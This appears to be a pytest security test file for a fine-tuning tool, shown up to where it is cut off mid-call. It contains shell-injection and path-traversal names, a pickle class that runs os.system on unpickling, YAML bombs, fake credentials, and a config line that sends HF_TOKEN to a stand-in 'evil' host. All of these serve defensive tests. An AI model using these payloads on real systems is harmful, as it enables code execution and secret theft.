"""Secure by default: hostile names, configs, YAML, models and secrets, with their counts."""

import itertools
import json
import os
import pickle
import random
import shlex
import shutil
import string
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from tuneloom import cli
from tuneloom.config import FORBIDDEN_KEYS, build
from tuneloom.data.rows import open_rows
from tuneloom.errors import ConfigError, DataError, TuneloomError
from tuneloom.launch.config import JobConfig, LaunchConfig
from tuneloom.launch.slurm import header, render, submission_of
from tuneloom.private import is_private, own_folder
from tuneloom.redact import redact, redacted
from tuneloom.registry.adapters import model_folder
from tuneloom.registry.digests import weights_digest
from tuneloom.testing import Gang, small_config
from tuneloom.train import checkpoint
from tuneloom.train.config import MethodConfig, ModelConfig, RunConfig
from tuneloom.train.model import locate
from tuneloom.yaml_guard import check_file

HOSTILE = [
    "$(touch canary)", "`touch canary`", "a;touch canary", "a|touch canary", "a&touch canary",
    "a\n#SBATCH --wrap=touch", "a\n touch canary", "../../etc/passwd", "/etc/passwd", "..", ".",
    "-rf", "--wrap=touch canary", "a b", "a'b", 'a"b', "a\\b", "a\0b", "a\r\nb", "ä", "A" * 65,
    "${IFS}touch", "%j", "a*", "~root", "{{ 7*7 }}", "{% raw %}", "",
]  # fmt: skip


def fuzzed(count: int) -> list[str]:
    """Hostile names and random mixtures of them with printable and control characters."""
    rng = random.Random(0)
    alphabet = string.printable + "\0\x1b\u202e\u2028ä"
    noise = [
        "".join(rng.choice(alphabet) for _ in range(rng.randrange(1, 80))) for _ in range(count)
    ]
    return HOSTILE + [rng.choice(HOSTILE) + word for word in noise[len(HOSTILE) :]]


def test_5000_fuzzed_names_reach_no_path_header_or_shell() -> None:
    """Each is refused, or is made of harmless characters alone (S19)."""
    for name in fuzzed(5000):
        for make in (
            lambda n: RunConfig(name=n).name,
            lambda n: RunConfig(id=n).id,
            lambda n: LaunchConfig(kind="slurm", partition=n).partition,
            lambda n: LaunchConfig(kind="slurm", account=n).account,
            lambda n: LaunchConfig(kind="slurm", time=n).time,
            lambda n: LaunchConfig(kind="slurm", memory=n).memory,
        ):
            try:
                accepted = str(make(name))
            except ValueError:
                continue
            assert set(accepted) <= set(string.ascii_letters + string.digits + "._-:")
            assert accepted not in (".", "..")


SHOWN = r"""
scontrol() { echo node; }
getent() { echo 10.0.0.1 node; }
SLURM_JOB_NODELIST=node SLURM_JOB_ID=1
%s
printf '%%s\0' "${python[@]}" "${arguments[@]}"
"""


def rendered(content: dict[str, Any]) -> tuple[str, list[str]] | None:
    """The batch script of a config and the words that should start its command; None if refused."""
    try:
        job = build(JobConfig, content)
        script = render(job)
    except ConfigError:
        return None
    folder = submission_of(job).absolute()
    return script, [str(job.launch.python), "--config-dir", str(folder), "local=job"]


def test_names_stay_one_word_of_the_batch_script(lab: Path, tmp_path: Path) -> None:
    """500 fuzzed names as interpreter, and as folder, id, name and account, through the renderer;
    what it gives is run by bash up to the command line that trains (S19).
    """
    scripts: dict[str, list[str]] = {}
    for word in fuzzed(500):
        name = word.replace("\0", "")  # bash itself drops NULs
        for place in ("python", "run.root", "run.id", "run.name", "launch.account"):
            content = small_config(lab, "named", run__root=str(tmp_path))
            content["launch"] = {"kind": "slurm", "gpus_per_worker": 0, "python": f"/opt/{name}"}
            if "." in place:
                part, key = place.split(".")
                content[part][key] = f"{tmp_path}/{name}" if key == "root" else name  # type: ignore[index]
            if found := rendered(content):
                scripts[found[0]] = found[1]
    assert len(scripts) > 500
    for script, command in scripts.items():
        options = itertools.takewhile(lambda line: line[:1] == "#", script.split("\n"))
        names = [o.split("=")[0].split("--")[1] for o in options if o.startswith("#SBATCH")]
        assert len(names) == len(set(names)) and "wrap" not in names
        until_it_trains = script[: script.index("# The token lives")]
        done = subprocess.run(
            ["bash", "-c", SHOWN % until_it_trains], cwd=tmp_path, capture_output=True, check=True
        )
        shown = [part.replace("%a", "0") for part in command[1:]]
        assert done.stdout.decode().split("\0")[:4] == [command[0], *shown]
    assert list(tmp_path.iterdir()) == []


def test_a_run_folder_that_would_break_an_sbatch_line_is_refused() -> None:
    for output in ("/a b/x.out", "/a\n#SBATCH --wrap=x", '/a"b', "/a'b"):
        with pytest.raises(ConfigError, match="SBATCH line"):
            header(LaunchConfig(kind="slurm", gpus_per_worker=0), name="x", output=output)


TARGETS = [
    "os.system", "os.popen", "os.mkdir", "os.remove", "os.execv", "os.spawnl", "os.putenv",
    "subprocess.run", "subprocess.Popen", "subprocess.call", "subprocess.check_output",
    "builtins.eval", "builtins.exec", "builtins.open", "builtins.__import__", "builtins.compile",
    "pickle.load", "pickle.loads", "torch.load", "torch.hub.load", "torch.jit.load",
    "pandas.read_pickle", "numpy.load", "joblib.load", "shutil.copytree", "shutil.rmtree",
    "shutil.move", "importlib.import_module", "runpy.run_path", "timeit.timeit", "ctypes.CDLL",
    "socket.socket", "urllib.request.urlopen", "requests.get", "webbrowser.open", "code.interact",
    "pty.spawn", "multiprocessing.Process", "threading.Thread", "pathlib.Path.unlink",
]  # fmt: skip


@pytest.mark.parametrize("key", FORBIDDEN_KEYS)
def test_no_config_names_code_to_run(key: str, lab: Path, tmp_path: Path) -> None:
    """40 targets at 5 places each (S4)."""
    for target in TARGETS:
        for place in ("run", "model", "optim", "data", ""):
            content: dict[str, Any] = small_config(lab, "x")
            at = content if not place else content[place]
            at[key] = target
            with pytest.raises(ConfigError, match="configs name no code"):
                build(JobConfig, content)


def test_200_fuzzed_overrides_end_in_one_sentence(
    lab: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """No traceback, no code run, no exit 0 (S4)."""
    rng = random.Random(1)
    keys = [
        "optim.lr",
        "run.name",
        "model.path",
        "_target_",
        "hydra.sweeper._target_",
        "+x",
        "~run",
    ]
    values = [*TARGETS, *HOSTILE, "${oc.env:HOME}", "[1,2", "{a:1}", "???", "null", "1e999", "'"]
    for _ in range(200):
        override = f"{rng.choice(keys)}={rng.choice(values)}"
        code = cli.main(["plan", override, "model.path=/nowhere", "data.path=/nowhere"])
        said = capsys.readouterr()
        assert code in (2, 3, 4), override
        assert "Traceback" not in said.err + said.out, override


def fuzzed_value(rng: random.Random, depth: int = 0) -> Any:
    """A scalar, or a list or mapping of such, that a YAML file may hold."""
    if depth < 3 and rng.random() < 0.3:
        keys = [*FORBIDDEN_KEYS, "path", "kind", "name", "lr", "", "a.b", "__class__", "x"]
        if rng.random() < 0.5:
            return {rng.choice(keys): fuzzed_value(rng, depth + 1) for _ in range(3)}
        return [fuzzed_value(rng, depth + 1) for _ in range(rng.randrange(4))]
    scalars = [None, True, -1, 0, 2**70, -0.0, 1e308, float("nan"), float("inf"), b"x".hex()]
    return rng.choice([*TARGETS, *HOSTILE, *scalars])


def test_20000_fuzzed_configs_are_built_or_refused_in_one_sentence(
    lab: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Values of any shape in any place: no other exception, nothing run (S4)."""
    monkeypatch.chdir(tmp_path)
    rng, refused = random.Random(3), 0
    for _ in range(20_000):
        content: dict[str, Any] = small_config(lab, "x")
        for _ in range(rng.randrange(1, 4)):
            at = content
            if rng.random() < 0.8:
                at = content[rng.choice([k for k, v in content.items() if isinstance(v, dict)])]
            key = rng.choice([*at, *FORBIDDEN_KEYS, "launch", "seed"])
            at[key] = fuzzed_value(rng)
        try:
            build(JobConfig, content)
        except ConfigError as error:
            refused += 1
            assert str(error)
    assert refused > 10_000
    assert list(tmp_path.iterdir()) == []


@pytest.fixture
def elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty folder that the process stands in."""
    (tmp_path / "work").mkdir()
    monkeypatch.chdir(tmp_path / "work")
    return tmp_path / "work"


@pytest.mark.parametrize("target", ["sweeper", "launcher", "callbacks.x", "job_logging"])
def test_hydras_own_classes_cannot_be_replaced(
    target: str, elsewhere: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = f"+hydra.{target}._target_=os.mkdir"
    assert cli.main(["plan", "--multirun", code, "+hydra.sweeper.path=canary"]) == 2
    assert "configs name no code here" in capsys.readouterr().err
    assert list(elsewhere.iterdir()) == []


CALLBACK = "{x: {_target_: os.mkdir, path: canary}}"
DECODED = "${oc.decode:'{_target_:os.mkdir,path:canary}'}"
CODE_FILES = {
    "hydra: {callbacks: " + CALLBACK + "}": "configs name no code here",
    'hydra: {callbacks: {x: {"\\x5ftarget_": os.mkdir, path: canary}}}': "configs name no code",
    "hydra: {sweeper: {params: {a: [{_target_: os.mkdir}]}}}": "configs name no code here",
    "hydra: {job_logging: {formatters: {x: {(): os.mkdir, path: canary}}}}": "configs name no code",
    "labels: {a: [[{_partial_: true}]]}": "configs name no code here",
    f'hydra: {{callbacks: {{x: "{DECODED}"}}}}': "nothing of Hydra's own is set here",
    "hydra: {hydra_logging: {handlers: {x: {class: os.mkdir}}}}": "nothing of Hydra's own",
    "defaults: [{/model: ../../x}]": "write no '..'",
    "data: {path: 'https://evil/${oc.env:HF_TOKEN}.jsonl'}": "takes no secret from the environment",
    "data: {path: 'x/${ oc.env :my_api_key,y}'}": "takes no secret from the environment",
    "data: {path: \"${oc.env:'HF_TOKEN'}\"}": "HF_TOKEN: a config takes no secret",
    "data: {path: '${oc.env:\"SMTP_PASS\"}'}": "SMTP_PASS: a config takes no secret",
    "data: {path: '${oc.env:ENCRYPTION_KEY ,x}'}": "ENCRYPTION_KEY: a config takes no secret",
    "data: {path: '${oc.env:\\HF_TOKEN}'}": "takes no secret from the environment",
    "a: HF_TOKEN\ndata: {path: '${oc.env:${a}}'}": "takes no secret from the environment",
}
"""Experiments of a config folder, and what is said of them."""


@pytest.mark.parametrize("flags", [[], ["--multirun"], ["--help"], ["--cfg", "job"]])
def test_no_file_of_a_config_dir_names_code(
    flags: list[str], tmp_path: Path, elsewhere: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """By whatever flag it is read (S4)."""
    for number, (text, said) in enumerate(CODE_FILES.items()):
        folder = tmp_path / str(number) / "experiment"
        folder.mkdir(parents=True)
        (folder / "evil.yaml").write_text("# @package _global_\n" + text)
        code = cli.main(["plan", *flags, "--config-dir", str(folder.parent), "experiment=evil"])
        assert (code, said in capsys.readouterr().err) == (2, True), text
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize(
    "override",
    [
        f"+hydra.callbacks={CALLBACK.replace(' ', '')}",
        f"+hydra.callbacks.x={DECODED}",
        "+hydra/callbacks=x", "+experiment@hydra.callbacks=demo", "~hydra.job_logging",
        "hydra.searchpath=[file://D]", "experiment=../evil", "model=../evil,folder",
        "--config-path=D", "-cp=D", "--config-pat=D", "--experimental-rerun=x.pickle", "-cn=evil",
    ],
)  # fmt: skip
@pytest.mark.parametrize("flags", [[], ["--multirun"], ["--cfg", "job"]])
def test_configs_come_from_config_dir_alone(
    override: str, flags: list[str], elsewhere: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """No override and no flag is a way around what measures its files (S4, S5)."""
    assert cli.main(["plan", *flags, override]) == 2
    said = capsys.readouterr().err
    assert len(said.splitlines()) == 1
    assert "--config-dir" in said or "unknown flag" in said or "names no code" in said
    assert list(elsewhere.iterdir()) == []


def test_a_sweep_runs_each_point_as_an_ordinary_call(
    lab: Path, elsewhere: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every combination, the worst exit code, and no folder of Hydra's."""
    sweep = ["plan", "-m", f"model.path={lab}/base", f"data.path={lab}/rows.jsonl", "json=true"]
    assert cli.main([*sweep, "optim.lr=1e-3,2e-3", "seed=range(0,2)"]) in (0, 4)
    assert capsys.readouterr().out.count('"memory"') == 4
    assert cli.main([*sweep, "optim.lr=1e-3,fast"]) == 2
    said = capsys.readouterr()
    assert "optim.lr" in said.err and said.out == ""
    assert list(elsewhere.iterdir()) == []


def bombs(folder: Path) -> list[Path]:
    """20 files that are small to read and large, deep or endless to unfold."""
    texts = []
    for width, levels in ((2, 30), (9, 9), (10, 6), (50, 4), (3, 20)):
        lines = ["a0: &a0 [x]"]
        lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * width)}]" for n in range(1, levels)]
        texts.append("\n".join(lines))
        maps = ["a0: &a0 {x: 1}"]
        maps += [
            f"a{n}: &a{n} {{{', '.join(f'k{i}: *a{n - 1}' for i in range(width))}}}"
            for n in range(1, levels)
        ]
        texts.append("\n".join(maps))
    texts += ["a: &a [*a]", "a: &a {b: *a}", "&r {<<: *r}", "a: &a [[[*a]]]"]
    texts += ["[" * n + "]" * n for n in (100, 5_000, 60_000)]
    texts += ["x: " + "y" * 300_000, "{" * 200_000, "- " * 100_000]
    paths = [folder / f"{n}.yaml" for n in range(len(texts))]
    for path, text in zip(paths, texts, strict=True):
        path.write_text(text)
    return paths


MEASURED = """
import json, resource, sys, time
from pathlib import Path
from tuneloom.errors import ConfigError
from tuneloom.yaml_guard import check_file
peak = lambda: resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
before, seconds = peak(), {}
for path in map(Path, sys.argv[1:]):
    started = time.process_time()
    try:
        check_file(path)
    except ConfigError:
        seconds[path.name] = time.process_time() - started
print(json.dumps({"KiB": peak() - before, "seconds": seconds}))
"""


def test_20_yaml_bombs_are_refused_within_a_second_each(tmp_path: Path) -> None:
    """And in under 200 MiB of memory more than an interpreter that has just started (S5)."""
    paths = bombs(tmp_path)
    done = subprocess.run(
        [sys.executable, "-c", MEASURED, *map(str, paths)], capture_output=True, timeout=100,
        check=True,
    )  # fmt: skip
    measured = json.loads(done.stdout)
    assert len(measured["seconds"]) == len(paths) == 20
    assert max(measured["seconds"].values()) < 1.0
    assert measured["KiB"] < 200 * 2**10


@pytest.mark.parametrize(
    "name", ["HOME", "TOKENIZER_DIR", "KEYCLOAK_DIR", "AUTHOR", "MONKEY_ROOT", "SCRATCH"]
)
def test_a_variable_that_is_no_secret_may_stand_in_a_config(name: str, tmp_path: Path) -> None:
    (tmp_path / "mine.yaml").write_text(f"data: {{path: '${{oc.env:{name}}}/rows'}}")
    check_file(tmp_path / "mine.yaml")


def test_a_bomb_in_a_config_dir_is_one_sentence(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "experiment").mkdir()
    bomb = bombs(tmp_path)[0]
    bomb.rename(tmp_path / "experiment/bomb.yaml")
    assert cli.main(["plan", "--config-dir", str(tmp_path / "experiment"), "experiment=bomb"]) == 2
    assert "unfolds to more than" in capsys.readouterr().err


@pytest.mark.parametrize("verb", ["export", "evaluate", "report"])
def test_a_bomb_as_a_runs_config_is_one_sentence(
    verb: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A run's folder may come from elsewhere (S5)."""
    bombs(tmp_path)[0].rename(tmp_path / "config.yaml")
    assert cli.main([verb, f"run={tmp_path}"]) == 2
    assert "unfolds to more than" in capsys.readouterr().err
    (tmp_path / "config.yaml").write_text("- a")
    assert cli.main([verb, f"run={tmp_path}"]) == 2
    assert "expected keys and values" in capsys.readouterr().err


def test_bombs_of_interpolations_and_behind_links_are_one_sentence(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """What YAML does not unfold OmegaConf does, and Hydra follows links to folders (S5)."""
    (tmp_path / "real/experiment").mkdir(parents=True)
    doubled = "".join(f"a{n}: ${{a{n - 1}}}${{a{n - 1}}}\n" for n in range(1, 40))
    (tmp_path / "real/experiment/x.yaml").write_text(f"# @package _global_\na0: x\n{doubled}")
    started = time.monotonic()
    assert cli.main(["plan", "--config-dir", str(tmp_path / "real"), "experiment=x"]) == 2
    assert "78 interpolations" in capsys.readouterr().err
    (tmp_path / "real/experiment/x.yaml").write_text(bombs(tmp_path)[0].read_text())
    (tmp_path / "linked").mkdir()
    (tmp_path / "linked/experiment").symlink_to(tmp_path / "real/experiment")
    assert cli.main(["plan", "--config-dir", str(tmp_path / "linked"), "experiment=x"]) == 2
    assert "unfolds to more than" in capsys.readouterr().err
    assert time.monotonic() - started < 60


def test_configs_of_ours_pass_the_guard() -> None:
    for path in (Path(__file__).parent.parent.parent / "conf").rglob("*.yaml"):
        check_file(path)


class Payload:
    """Unpickling this writes the canary."""

    def __init__(self, canary: Path) -> None:
        self.command = f"touch {shlex.quote(str(canary))}"

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


def test_pickled_weights_under_any_name_run_nothing(lab: Path, tmp_path: Path) -> None:
    """A base whose weights are a pickle, bare or inside torch's zip, in 10 names each (S2)."""
    import torch
    from safetensors import SafetensorError

    from tuneloom.train import model

    canary, method = tmp_path / "canary", MethodConfig(kind="full")
    names = [
        "pytorch_model.bin", "model.pt", "model.pth", "model.ckpt", "model.pkl", "optimizer.pt",
        "training_args.bin", "model.safetensors", "model-00001-of-00001.safetensors",
        "adapter_model.safetensors",
    ]  # fmt: skip
    for number, name in enumerate(names):
        for zipped in (False, True):
            folder = tmp_path / f"{number}{zipped}"
            shutil.copytree(lab / "base", folder)
            (folder / "model.safetensors").unlink()
            if zipped:
                torch.save(Payload(canary), folder / name)
            else:
                (folder / name).write_bytes(pickle.dumps(Payload(canary)))
            config = ModelConfig(path=str(folder), dtype="fp32")
            if name.endswith(".safetensors"):
                expected, said = (SafetensorError, DataError), "header|found none"
            else:
                expected, said = (ConfigError,), "pickled weights are not read"
            with pytest.raises(expected, match=said):
                model.load(locate(config), config, method, torch.device("cpu"), seed=0)
            assert not canary.exists(), (name, zipped)


def payloads(folder: Path, canary: Path) -> list[Path]:
    """10 files that run code when they are unpickled, each in a form of its own (S2)."""
    import io
    import tarfile
    import zipfile

    import numpy as np
    import torch

    evil = Payload(canary)
    plain = pickle.dumps(evil)
    folder.mkdir()
    for number, protocol in enumerate((0, 2, 4, 5)):
        (folder / f"protocol{number}.pkl").write_bytes(pickle.dumps(evil, protocol))
    np.save(folder / "object.npy", np.array([evil], dtype=object), allow_pickle=True)
    np.savez(folder / "object.npz", rows=np.array([evil], dtype=object))
    torch.save({"model": [evil]}, folder / "nested.pt")
    torch.save(evil, folder / "legacy.bin", _use_new_zipfile_serialization=False)
    with zipfile.ZipFile(folder / "program.pt2", "w") as archive:
        archive.writestr("archive/data/data.pkl", plain)
        archive.writestr("serialized_state_dict.pt", plain)
    with tarfile.open(folder / "rows.tar", "w") as tar:
        entry = tarfile.TarInfo("pickle")
        entry.size = len(plain)
        tar.addfile(entry, io.BytesIO(plain))
    return sorted(folder.iterdir())


def test_pickles_of_ten_forms_run_nothing_as_rows_adapter_or_checkpoint(
    lab: Path, tmp_path: Path, one: Gang
) -> None:
    """With the 20 above, 30 payloads; each also beside a good checkpoint's own shards (S2)."""
    import shutil

    canary = tmp_path / "canary"
    forms = payloads(tmp_path / "forms", canary)
    assert len(forms) == 10
    one.fit(small_config(lab, "forms-sound", steps=2, checkpoint__every=1))
    good = lab / "runs/forms-sound/checkpoints/step-000002"
    for number, form in enumerate(forms):
        with pytest.raises(TuneloomError):
            open_rows(form)[0]
        for name in ("adapter_model.bin", "adapter_model.safetensors"):
            adapter = tmp_path / f"{number}{name}"
            adapter.mkdir()
            (adapter / "adapter_config.json").write_text('{"peft_type": "LORA"}')
            shutil.copy(form, adapter / name)
            with pytest.raises(TuneloomError):
                weights_digest(adapter)
        for place in ("engine/mp_rank_00_model_states.pt", "engine/mp_rank_01_model_states.pt"):
            folder = tmp_path / f"checkpoint{number}"
            shutil.copytree(good, folder)
            shutil.copy(form, folder / place)
            with pytest.raises(ConfigError, match=r"differs|bytes|not in the manifest"):
                checkpoint.opened(folder)
            shutil.rmtree(folder)
        assert not canary.exists(), form


def folders_with_code(lab: Path, folder: Path, canary: Path) -> list[Path]:
    """10 models with modeling_evil.py, named in config.json or deeper, here or in another repo."""
    places = [
        ("config.json", ["auto_map"]), ("config.json", ["text_config", "auto_map"]),
        ("config.json", ["vision_config", "auto_map"]), ("tokenizer_config.json", ["auto_map"]),
        ("generation_config.json", ["auto_map"]),
    ]  # fmt: skip
    models = []
    for number, (file, path) in enumerate(places):
        for prefix in ("", "someone/repo--"):
            model = shutil.copytree(lab / "base", folder / f"{number}{bool(prefix)}")
            (model / "modeling_evil.py").write_text(f"open({str(canary)!r}, 'w')\nclass Evil: ...")
            config = model / file
            content = json.loads(config.read_text()) if config.exists() else {}
            at = content
            for key in path[:-1]:
                at = at.setdefault(key, {})
            classes = ("AutoConfig", "AutoModelForCausalLM")
            at[path[-1]] = dict.fromkeys(classes, f"{prefix}modeling_evil.Evil")
            at[path[-1]]["AutoTokenizer"] = [f"{prefix}modeling_evil.Evil"] * 2
            # No class of transformers: else it would be taken without a question.
            content |= {"model_type": "evil"} if file == "config.json" else {}
            content |= {"tokenizer_class": "Evil"} if file == "tokenizer_config.json" else {}
            config.write_text(json.dumps(content))
            models.append(model)
    return models


def test_models_that_bring_code_are_refused_by_name(lab: Path, tmp_path: Path) -> None:
    """Before anything is loaded (S3)."""
    for folder in folders_with_code(lab, tmp_path, tmp_path / "canary"):
        with pytest.raises(ConfigError, match="remote code"):
            locate(ModelConfig(path=str(folder)))


def test_a_base_that_names_a_pickle_as_its_weights_is_refused(lab: Path, tmp_path: Path) -> None:
    """transformers reads that file before any safetensors (S2)."""
    folder = tmp_path / "base"
    shutil.copytree(lab / "base", folder)
    described = json.loads((folder / "config.json").read_text())
    described["transformers_weights"] = "adapter_model.bin"
    (folder / "config.json").write_text(json.dumps(described))
    for read in (lambda: locate(ModelConfig(path=str(folder))), lambda: model_folder(str(folder))):
        with pytest.raises(ConfigError, match="names a weights file of its own"):
            read()


ANSWERED = """
import sys
from tuneloom.data.tokenizer import load_tokenizer
from tuneloom.errors import TuneloomError
for folder in sys.argv[1:]:
    try:
        load_tokenizer(folder)
        print("loaded without its code")
    except TuneloomError as error:
        print(str(error).splitlines()[0])
"""


def test_no_answer_at_a_prompt_imports_a_models_code(lab: Path, tmp_path: Path) -> None:
    """`y` stands on stdin wherever transformers might ask (S3)."""
    canary = tmp_path / "canary"
    folders = folders_with_code(lab, tmp_path, canary)
    done = subprocess.run(
        [sys.executable, "-c", ANSWERED, *map(str, folders)], input=b"y\n" * 100,
        capture_output=True, timeout=200, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr.decode()
    said = done.stdout.decode()
    assert len(said.splitlines()) == 10 and "contains custom code" in said
    assert "[y/N]" not in said
    assert not canary.exists()


def secret_shapes() -> list[str]:
    """25 credentials of 25 forms, none of them real."""
    rng = random.Random(2)

    def of(alphabet: str, count: int) -> str:
        return "".join(rng.choice(alphabet) for _ in range(count))

    word, hexed = string.ascii_letters + string.digits, "0123456789abcdef"
    upper = string.ascii_uppercase + string.digits
    return [
        "hf_" + of(word, 34), "sk-" + of(word, 48), "sk-ant-" + of(word, 40),
        "sk-proj-" + of(word, 40), "AKIA" + of(upper, 16), "ASIA" + of(upper, 16),
        "ghp_" + of(word, 36), "gho_" + of(word, 36), "ghs_" + of(word, 36),
        "github_pat_" + of(word, 60), "glpat-" + of(word, 20), "npm_" + of(word, 36),
        "pypi-" + of(word, 60), "xoxb-" + of(word, 30), "xapp-1-" + of(word, 30),
        "AIza" + of(word, 35), "ya29." + of(word, 40), "sk_live_" + of(word, 24),
        "SG." + of(word, 22) + "." + of(word, 43), "dop_v1_" + of(hexed, 64),
        "shpat_" + of(hexed, 32), "eyJ" + of(word, 20) + ".eyJ" + of(word, 30) + "." + of(word, 40),
        "https://bob:" + of(word, 20) + "@host.example/x",
        "-----BEGIN RSA PRIVATE KEY-----" + of(word, 64) + "-----END RSA PRIVATE KEY-----",
        "Bearer " + of(word, 40),
    ]  # fmt: skip


def essence(secret: str) -> str:
    """The part that must not be seen: without scheme, header or marker."""
    if secret.startswith("https://"):
        return secret.split(":")[2].split("@")[0]
    if secret.startswith("-----"):
        return secret.split("-----")[2]
    return secret.removeprefix("Bearer ")


def test_25_shapes_of_secret_are_masked_in_text_and_in_trees() -> None:
    shapes = secret_shapes()
    assert len(shapes) == 25
    for secret in shapes:
        assert essence(secret) not in redact(f"failed: {secret}, see above")
        tree = json.dumps(redacted({"a": [secret, {secret: 1}]}))
        assert essence(secret) not in tree
    assert redact("learning rate 2e-4, step-000500, sha256 " + "ab" * 32) == (
        "learning rate 2e-4, step-000500, sha256 " + "ab" * 32
    )


def planted(path: Path, *, answer: str | None = None) -> Path:
    """Chats in which each shape is asked; `answer` is the same to all, else the shape again."""
    turns = [
        [{"role": "user", "content": secret}, {"role": "assistant", "content": answer or secret}]
        for secret in secret_shapes()
    ]
    path.write_text("".join(json.dumps({"messages": turn}) + "\n" for turn in turns))
    return path


def in_environment() -> dict[str, str]:
    """This environment and the shapes."""
    return os.environ | {f"PLANTED_{n}_TOKEN": s for n, s in enumerate(secret_shapes())}


WHOLE_RUN = """
import json, sys
from tuneloom import cli
from tuneloom.config import build
from tuneloom.train.config import TrainConfig
from tuneloom.train.loop import fit
content = json.load(sys.stdin)
fit(build(TrainConfig, content))
run = f"run={content['run']['root']}/planted"
assert cli.main(["evaluate", run, f"data.path={content['data']['path']}", "task=seen"]) == 0
assert cli.main(["evaluate", run, f"data.path={content['data']['validation']}"]) == 0
assert cli.main(["report", run]) == 0
"""


def test_no_planted_secret_is_in_any_byte_that_a_run_writes(lab: Path, tmp_path: Path) -> None:
    """25 shapes in the config, the rows that train and those that validate and the environment of
    a run with W&B offline, its evaluations and its report (S10).
    """
    shapes = secret_shapes()
    content = small_config(
        lab, "planted", run__root=str(tmp_path / "runs"), run__parent=" ".join(shapes), steps=2,
        data__path=str(planted(tmp_path / "rows.jsonl", answer="no")), train__samples=len(shapes),
        data__validation=str(planted(tmp_path / "validation.jsonl")), train__sample_tokens=2,
        tracker__mode="offline", batch__max_length=512,
    )  # fmt: skip
    done = subprocess.run(
        [sys.executable, "-c", WHOLE_RUN], input=json.dumps(content).encode(), capture_output=True,
        env=in_environment(), timeout=300, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr.decode()
    files = [path for path in (tmp_path / "runs").rglob("*") if path.is_file()]
    names = {"run.json", "config.yaml", "metrics.jsonl", "samples.jsonl", "report.html"}
    assert names <= {path.name for path in files}
    assert any(path.suffix == ".wandb" for path in files)
    assert len([path for path in files if path.name.endswith(".rows.jsonl")]) == 2
    samples = (tmp_path / "runs/planted/samples.jsonl").read_text()
    assert samples.count('"expected": "[secret]') == len(shapes)
    hits = {
        (path.name, secret) for path in files for secret in shapes
        if essence(secret).encode() in path.read_bytes()
    }  # fmt: skip
    assert hits == set()
    said = (done.stdout + done.stderr).decode()
    assert [secret for secret in shapes if essence(secret) in said] == []


def session_of(pid: int) -> Path:
    """Where the embedded Ray of a driver wrote; pids come again, so the newest. Ray opens it to all
    users, so what it lies in must be ours.
    """
    assert is_private(own_folder())
    sessions = (own_folder() / "ray").glob(f"session_*_{pid}")
    return max(sessions, key=lambda path: path.stat().st_mtime)


WHERE_RAY_WRITES = """
import os
from tuneloom.launch.embedded import keep_private
keep_private()
print(os.environ["RAY_TMPDIR"])
"""


def test_rays_sockets_have_short_paths_whatever_the_temporary_folder_is_called(
    tmp_path: Path,
) -> None:
    """Linux allows 107 characters, and batch systems give long names."""
    environment = {k: v for k, v in os.environ.items() if k != "RAY_TMPDIR"}
    for folder in (tmp_path / ("scratch." * 9), tmp_path.parent):
        folder.mkdir(exist_ok=True)
        done = subprocess.run(
            [sys.executable, "-c", WHERE_RAY_WRITES], capture_output=True, text=True, check=True,
            env=environment | {"TMPDIR": str(folder)},
        )  # fmt: skip
        written = Path(done.stdout.strip())
        session = written / "ray/session_2026-11-28_02-17-39_123456_4194304/sockets/plasma_store.1"
        assert len(str(session)) < 107 and is_private(written)


def under_ray(lab: Path, folder: Path, *more: str) -> tuple[int, bytes]:
    """A `launch=local` run with the shapes in its environment and rows and one in its config; its
    exit code and every byte that it, W&B and Ray wrote or printed.
    """
    command = [
        sys.executable, "-m", "tuneloom", "train", f"run.root={folder}/runs", "run.id=ray",
        f"run.parent={secret_shapes()[0]}", "model.dtype=fp32", "steps=2", "tracker=offline",
        f"data.path={planted(folder / 'rows.jsonl', answer='no')}", "train.samples=25",
        f"data.validation={planted(folder / 'validation.jsonl')}", "train.sample_tokens=2",
        "batch.max_length=512", "batch.tokens=512",
        "launch=local", "train.drill=false", f"model.path={lab}/base", *more,
    ]  # fmt: skip
    process = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=in_environment()
    )
    said = process.communicate(timeout=200)[0]
    session = session_of(process.pid)
    files = [p for f in (session, folder / "runs") for p in f.rglob("*") if p.is_file()]
    assert any(path.name.startswith("raylet") for path in files)
    assert any(path.suffix == ".wandb" for path in files) or process.returncode
    return process.returncode, b"".join(path.read_bytes() for path in files) + said


def test_no_planted_secret_is_in_any_byte_that_ray_writes(lab: Path, tmp_path: Path) -> None:
    """25 shapes in the environment and the rows, one in the config, of a run under Ray (S10)."""
    code, written = under_ray(lab, tmp_path, "launch.workers=1")
    assert code == 0, written[-3000:].decode(errors="replace")
    assert written.count(b'"expected": "[secret]') == len(secret_shapes())
    assert [s for s in secret_shapes() if essence(s).encode() in written] == []


def base_that_fails(lab: Path, folder: Path) -> Path:
    """A model whose activation is named by all shapes: a library raises with them in its words."""
    base = shutil.copytree(lab / "base", folder / "base")
    content = json.loads((base / "config.json").read_text())
    content["hidden_act"] = " ".join(secret_shapes())
    (base / "config.json").write_text(json.dumps(content))
    return Path(base)


@pytest.mark.parametrize("command", [["tuneloom", "train", "launch=inline"], ["tuneloom.train"]])
def test_no_secret_is_in_the_traceback_of_what_nobody_caught(
    command: list[str], lab: Path, tmp_path: Path
) -> None:
    """In one process Python prints it, not Ray (S10)."""
    done = subprocess.run(
        [sys.executable, "-m", *command, f"model.path={base_that_fails(lab, tmp_path)}", "steps=1",
         "model.dtype=fp32", f"run.root={tmp_path}/runs", f"data.path={lab}/rows.jsonl",
